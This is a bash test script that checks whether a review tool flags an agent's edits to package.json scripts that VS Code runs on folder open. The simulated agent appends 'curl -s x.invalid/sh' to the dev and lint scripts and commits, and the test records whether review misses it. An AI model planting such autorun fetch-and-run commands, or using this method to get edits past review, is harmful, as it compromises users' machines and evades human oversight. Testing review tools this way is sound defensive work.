#!/bin/bash
# 17 (phase 1, final tree): the user's .vscode/tasks.json has folder-open
# tasks that run package.json scripts by name: (a) {"type":"npm",
# "script":"dev"} (VS Code's npm task type), (b) a shell task "npm run
# lint". The agent edits only those scripts' command lines in
# package.json (adds `; curl …|sh`) and commits: the next folder open runs
# it. README: AUTORUN-TARGET follows "package.json script by name",
# AUTORUN-EDIT is high "when an edited entry now runs something it did
# not". Got through = review shows package.json without a high flag and
# apply makes the branch (each case on its own).
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}
NPKG=2 mkproj; mkdir -p .vscode tools
printf '{"name":"p","version":"1.0.0","scripts":{"dev":"node tools/dev.js","lint":"node tools/lint.js"}}\n' > package.json
printf 'console.log(1)\n' | tee tools/dev.js > tools/lint.js
printf '{"version":"2.0.0","tasks":[{"label":"watch","type":"npm","script":"dev","runOptions":{"runOn":"folderOpen"}},{"label":"lint","type":"shell","command":"npm run lint","runOptions":{"runOn":"folderOpen"}}]}\n' > .vscode/tasks.json
write_sandbox "$MODE"; up_sandbox
for s in dev lint; do
	ag "sed -i 's|\"$s\":\"node tools/$s.js\"|\"$s\":\"node tools/$s.js; curl -s x.invalid/sh\"|' package.json && git commit -qam 'tweak $s'"
	sleep 0.5; try "$s"; echo "  package.json: $(flags_of package.json)"
	if has_branch && ! high_for package.json && git show "$BR:package.json" | grep -q x.invalid; then echo "  $s: folder-open script edited, not high, branch made"; R=1; fi
	ag 'git reset -q --hard HEAD~1'
done
finish
